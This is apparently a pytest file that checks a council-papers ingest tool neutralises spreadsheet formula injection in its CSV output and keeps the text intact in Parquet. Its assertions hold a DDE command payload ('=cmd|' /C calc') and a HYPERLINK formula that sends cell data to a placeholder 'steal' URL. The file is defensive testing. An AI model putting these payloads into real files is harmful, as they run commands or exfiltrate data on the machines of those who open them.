"""End to end: a tracker whose cells are formulas (`=HYPERLINK(…)`, `@SUM(…)`, `+44 …`, `-2+3 …`)
comes out neutralised in every CSV a spreadsheet may open, and exactly as printed in Parquet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from councilpapers.cli import app
from output.tables import FORMULA_TRIGGERS

SAMPLE = Path(__file__).parent / "regressions" / "formula-injection-cells.txt"


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    args = ["ingest", str(SAMPLE), "--out", str(folder), "--no-ocr", "--no-progress"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    return folder


def _csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_formula_cells_are_neutralised_in_progress_csv(out: Path) -> None:
    rows = _csv(out / "progress.csv")
    first, second = rows
    assert first["recommendation"].startswith("'=HYPERLINK(")
    assert first["officers"] == first["officer_raw"] == "'@Head of Libraries"
    assert first["evidence"].startswith("'+44 1642")
    assert second["recommendation"] == "'-2+3 branches be opened on Sundays."
    assert second["officer_raw"] == "'=cmd|' /C calc'!A0"
    assert second["evidence"].startswith("'@SUM(")


def test_formula_text_is_intact_in_parquet(out: Path) -> None:
    first, second = pq.read_table(out / "progress.parquet").to_pylist()
    assert first["recommendation"].startswith('=HYPERLINK("http://example.invalid/steal?"&A1')
    assert first["officers"] == ["@Head of Libraries"]
    assert first["evidence"] == "+44 1642 526000 was called; =1+1 is not a formula here."
    assert second["recommendation"] == "-2+3 branches be opened on Sundays."
    assert second["officer_raw"] == "=cmd|' /C calc'!A0"


def test_no_csv_cell_of_the_dataset_starts_a_formula(out: Path) -> None:
    checked = 0
    for path in sorted(out.glob("*.csv")):
        for row in _csv(path):
            for column, cell in row.items():
                checked += 1
                if cell.startswith(FORMULA_TRIGGERS):
                    # Numbers are written as numbers (`-3` stays a number in a spreadsheet).
                    assert cell.lstrip("-+").replace(".", "", 1).isdigit(), (path.name, column)
    assert checked > 50
